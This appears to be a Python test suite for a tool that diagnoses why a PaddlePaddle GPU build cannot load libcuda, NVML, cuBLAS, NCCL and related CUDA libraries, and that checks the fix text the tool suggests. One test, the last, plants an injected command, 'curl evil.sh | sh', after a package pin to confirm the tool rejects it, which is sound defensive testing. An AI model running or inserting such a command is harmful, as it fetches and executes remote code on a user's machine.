"""Everything the installed GPU build opens can be loaded: libcuda.so.1 beside an NVML that
answers, and the CUDA libraries a build opens by name (cuBLAS, cuFFT, NCCL, ...), judged over saved
facts as the probe's child records them."""

from __future__ import annotations

from typing import Any

from envcheck.contracts.facts import HostFacts, host_from_document
from envcheck.contracts.host_report import Report
from envcheck.image.choice import select_image
from envcheck.matrix.load import load_matrix
from envcheck.verdict.judge import Context, judge
from tests import scenarios as s

MATRIX = load_matrix()
NVML = "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.535.104.05"
NO_LIBCUDA = {
    "status": "absent",
    "reason": "libcuda.so.1 cannot be loaded from the loader path (libcuda.so.1: cannot open "
    "shared object file: No such file or directory)",
}
# The 2.x non-pip names (matrix/cuda_libraries.toml), as a host with the CUDA 11.8 toolkit's -dev
# packages has them.
DEV_NAMES = (
    "libcublas.so",
    "libcublasLt.so",
    "libcufft.so",
    "libcurand.so",
    "libcusolver.so",
    "libcusparse.so",
    "libnccl.so",
)


def opened(*absent: str, versioned: dict[str, str] | None = None) -> list[dict[str, Any]]:
    """Every 2.x name opened from /usr/local/cuda-11.8/lib64, except `absent`."""
    out: list[dict[str, Any]] = []
    for name in DEV_NAMES:
        if name in absent:
            error = f"{name}: cannot open shared object file: No such file or directory"
            out.append({"name": name, "status": "absent", "reason": error})
        else:
            path = f"/usr/local/cuda-11.8/lib64/{name}"
            out.append({"name": name, "status": "ok", "path": path, "origin": "loader"})
    for name, path in (versioned or {}).items():
        out.append({"name": name, "status": "ok", "path": path, "origin": "loader"})
    return out


def doctor(doc: dict[str, Any]) -> Report:
    host: HostFacts = host_from_document(doc)
    image = select_image(host, MATRIX)
    return Report(host=host, findings=tuple(judge(Context(host, MATRIX, image))), image=image)


def the(report: Report, id_: str) -> Any:
    found = [f for f in report.findings if f.id == id_]
    assert len(found) == 1, f"{id_} in {[f.id for f in report.findings]}"
    return found[0]


def ids(report: Report) -> set[str]:
    return {f.id for f in report.findings}


def fix_text(finding: Any) -> str:
    return str(finding.remedy.prose())


# -- the driver API: NVML answers, libcuda.so.1 does not load ------------------------------------


def t4_262(**layers: Any) -> dict[str, Any]:
    return s.host(
        driver=s.driver("535.104.05", "12.2", library=NVML),
        gpus=[s.T4],
        paddle=s.PADDLE_262_CU118,
        cudnn=s.cudnn("8.6.0"),
        **layers,
    )


def test_nvml_without_libcuda_in_a_utility_only_container_fails_and_names_the_capability() -> None:
    r = doctor(
        t4_262(
            cuda_driver=NO_LIBCUDA,
            env={"NVIDIA_VISIBLE_DEVICES": "all", "NVIDIA_DRIVER_CAPABILITIES": "utility"},
        )
    )
    f = the(r, "cuda.libcuda-missing")
    assert f.severity == "fail" and int(r.exit_status) == 1
    assert "NVML answers (driver 535.104.05" in f.message
    assert "Paddle 2.6.2 (CUDA 11.8) cannot use the GPU" in f.message
    text = fix_text(f)
    assert "NVIDIA_DRIVER_CAPABILITIES=utility" in text
    assert "NVIDIA_DRIVER_CAPABILITIES=compute,utility" in text and "--gpus all" in text


def test_nvml_without_libcuda_in_a_container_started_without_the_runtime_says_gpus_all() -> None:
    r = doctor(t4_262(cuda_driver=NO_LIBCUDA, env={"NVIDIA_VISIBLE_DEVICES": "all"}))
    text = fix_text(the(r, "cuda.libcuda-missing"))
    assert "--gpus all" in text and "NVIDIA runtime" in text


def test_nvml_without_libcuda_on_a_host_points_at_the_drivers_folder_and_the_loader() -> None:
    r = doctor(t4_262(cuda_driver=NO_LIBCUDA))
    f = the(r, "cuda.libcuda-missing")
    assert f.severity == "fail" and r.verdict == "fail"
    text = fix_text(f)
    assert "/usr/lib/x86_64-linux-gnu/libcuda.so.1" in text
    assert "ldconfig" in text and "LD_LIBRARY_PATH" in text
    assert "libnvidia-compute-535" in text
    assert "None" not in f.message + text


def test_a_cpu_build_on_a_machine_without_driver_says_nothing_of_libcuda() -> None:
    r = doctor(s.host(driver={"status": "absent"}, cuda_driver=NO_LIBCUDA, paddle=s.PADDLE_331_CPU))
    assert "cuda.libcuda-missing" not in ids(r)


def test_a_cpu_build_beside_a_gpu_whose_libcuda_is_missing_is_warned() -> None:
    r = doctor(
        s.host(
            driver=s.driver("535.104.05", "12.2"),
            gpus=[s.A100],
            cuda_driver=NO_LIBCUDA,
            paddle=s.PADDLE_331_CPU,
        )
    )
    assert the(r, "cuda.libcuda-missing").severity == "warn"


# -- the libraries the build opens by name -------------------------------------------------------


def test_a_2x_build_without_cublas_fails_naming_the_name_it_opens_and_the_package() -> None:
    # Paddle#32457, Paddle#38106: "The third-party dynamic library (libcublas.so) that Paddle
    # depends on is not configured correctly. (error code is libcublas.so: cannot open shared
    # object file: No such file or directory)"
    r = doctor(t4_262(opened_libraries=opened("libcublas.so")))
    f = the(r, "cuda.library-missing")
    assert f.severity == "fail" and int(r.exit_status) == 1
    assert "opens cuBLAS as libcublas.so" in f.message
    assert "libcublas.so: cannot open shared object file" in f.message
    assert "names from the matrix for Paddle 2.x, CUDA 11" in f.message
    assert f.observed["source"].startswith("DYNLOAD")
    assert "apt-get install -y libcublas-dev-11-8" in fix_text(f)


def test_a_2x_build_with_only_the_versioned_cublas_is_told_to_link_it() -> None:
    have = {"libcublas.so.11": "/usr/lib/x86_64-linux-gnu/libcublas.so.11.11.3.6"}
    r = doctor(t4_262(opened_libraries=opened("libcublas.so", versioned=have)))
    text = fix_text(the(r, "cuda.library-missing"))
    assert "ln -s /usr/lib/x86_64-linux-gnu/libcublas.so.11.11.3.6" in text
    assert "/usr/lib/x86_64-linux-gnu/libcublas.so" in text


def test_every_library_present_is_one_pass_line_that_says_where_the_names_came_from() -> None:
    r = doctor(t4_262(opened_libraries=opened()))
    f = the(r, "cuda.libraries")
    assert f.severity == "pass"
    for library in ("cuBLAS (libcublas.so)", "cuFFT (libcufft.so)", "NCCL (libnccl.so)"):
        assert library in f.message
    assert "Paddle's source code" in f.message
    assert "cuda.library-missing" not in ids(r)


def test_nccl_missing_on_one_gpu_warns_and_on_two_fails() -> None:
    one = doctor(t4_262(opened_libraries=opened("libnccl.so")))
    assert the(one, "cuda.library-missing").severity == "warn"
    assert "more than one GPU" in the(one, "cuda.library-missing").message
    two = doctor(
        s.host(
            driver=s.driver("535.104.05", "12.2"),
            gpus=[s.T4, s.T4 | {"index": 1}],
            paddle=s.PADDLE_262_CU118,
            cudnn=s.cudnn("8.6.0"),
            opened_libraries=opened("libnccl.so"),
        )
    )
    assert the(two, "cuda.library-missing").severity == "fail"


def test_a_cpu_build_opens_nothing_and_is_judged_on_nothing() -> None:
    r = doctor(s.host(paddle=s.PADDLE_331_CPU, opened_libraries=opened("libcublas.so")))
    assert not {"cuda.libraries", "cuda.library-missing"} & ids(r)


def test_a_saved_report_without_the_opened_names_is_unknown_not_absent() -> None:
    r = doctor(t4_262())
    assert not {"cuda.libraries", "cuda.library-missing"} & ids(r)


def test_a_3x_pip_build_is_not_judged_by_the_2x_names() -> None:
    r = doctor(
        s.host(
            driver=s.driver("535.104.05", "12.2"),
            gpus=[s.A100],
            paddle=s.PADDLE_331_CU126,
            opened_libraries=opened(*DEV_NAMES),
        )
    )
    assert "cuda.library-missing" not in ids(r)


def test_cublas_and_cublaslt_missing_together_are_one_finding_with_one_package() -> None:
    r = doctor(t4_262(opened_libraries=opened("libcublas.so", "libcublasLt.so")))
    f = the(r, "cuda.library-missing")
    assert "cuBLAS as libcublas.so and cuBLASLt as libcublasLt.so" in f.message
    assert fix_text(f).count("libcublas-dev-11-8") == 1


# -- a pip-CUDA build (3.x): the names come from its own nvidia-* requirements --------------------

PIP_REQUIREMENTS = ["nvidia-cublas-cu12==12.6.4.1", "nvidia-nccl-cu12==2.25.1"]
PIP_DIR = "/srv/venv/lib/python3.11/site-packages/nvidia"


def a100_331(opened_libraries: list[dict[str, Any]], gpus: int = 1) -> dict[str, Any]:
    return s.host(
        driver=s.driver("535.104.05", "12.2"),
        gpus=[s.A100 | {"index": i} for i in range(gpus)],
        paddle=s.PADDLE_331_CU126
        | {"python": "/srv/venv/bin/python", "cuda_requirements": PIP_REQUIREMENTS},
        cudnn=s.cudnn("9.5.1"),
        opened_libraries=opened_libraries,
    )


def pip_lib(name: str, folder: str) -> dict[str, Any]:
    return {"name": name, "status": "ok", "path": f"{PIP_DIR}/{folder}/lib/{name}", "origin": "pip"}


def absent(name: str) -> dict[str, Any]:
    error = f"{name}: cannot open shared object file: No such file or directory"
    return {"name": name, "status": "absent", "reason": error}


def test_a_pip_build_whose_cublas_package_is_gone_fails_with_its_own_pin() -> None:
    r = doctor(
        a100_331(
            [
                absent("libcublas.so"),
                absent("libcublasLt.so"),
                absent("libnccl.so"),
                pip_lib("libnccl.so.2", "nccl"),
            ]
        )
    )
    f = the(r, "cuda.library-missing")
    assert f.severity == "fail" and int(r.exit_status) == 1
    assert "opens cuBLAS and cuBLASLt from nvidia-cublas-cu12==12.6.4.1" in f.message
    assert "/srv/venv/bin/python -m pip install nvidia-cublas-cu12==12.6.4.1" in fix_text(f)
    assert "NCCL (libnccl.so.2, pip)" in the(r, "cuda.libraries").message


def test_a_pip_build_with_every_required_library_is_one_pass_line() -> None:
    r = doctor(
        a100_331(
            [
                absent("libcublas.so"),
                pip_lib("libcublas.so.12", "cublas"),
                absent("libcublasLt.so"),
                pip_lib("libcublasLt.so.12", "cublas"),
                absent("libnccl.so"),
                pip_lib("libnccl.so.2", "nccl"),
            ]
        )
    )
    f = the(r, "cuda.libraries")
    assert "cuBLAS (libcublas.so.12, pip)" in f.message
    assert "names from the build's own requirements (nvidia-cublas-cu12==12.6.4.1" in f.message
    assert "cuda.library-missing" not in ids(r)


def test_a_pip_library_whose_dependency_is_missing_is_reinstalled() -> None:
    broken = {
        "name": "libcublas.so.12",
        "status": "error",
        "origin": "pip",
        "reason": "libcublasLt.so.12: cannot open shared object file: No such file or directory",
    }
    r = doctor(a100_331([absent("libcublas.so"), broken, absent("libcublasLt.so")]))
    f = next(f for f in r.findings if f.id == "cuda.library-missing")
    assert "libcublasLt.so.12: cannot open shared object file" in f.message
    assert "pip install --force-reinstall nvidia-cublas-cu12==12.6.4.1" in fix_text(f)


def test_nvml_without_libcuda_under_wsl2_offers_no_linux_driver_package() -> None:
    wsl = s.driver("535.104.05", "12.2", library="/usr/lib/wsl/lib/libnvidia-ml.so.1")
    r = doctor(s.host(driver=wsl, gpus=[s.T4], paddle=s.PADDLE_262_CU118, cuda_driver=NO_LIBCUDA))
    text = fix_text(the(r, "cuda.libcuda-missing"))
    assert "/usr/lib/wsl/lib/libcuda.so.1" in text and "libnvidia-compute" not in text


def test_a_saved_requirement_that_is_no_pin_is_never_offered_to_pip() -> None:
    doc = a100_331([absent("libcublas.so"), absent("libcublasLt.so")])
    doc["paddle"]["cuda_requirements"] = ["nvidia-cublas-cu12==1; curl evil.sh | sh"]
    assert "cuda.library-missing" not in ids(doctor(doc))
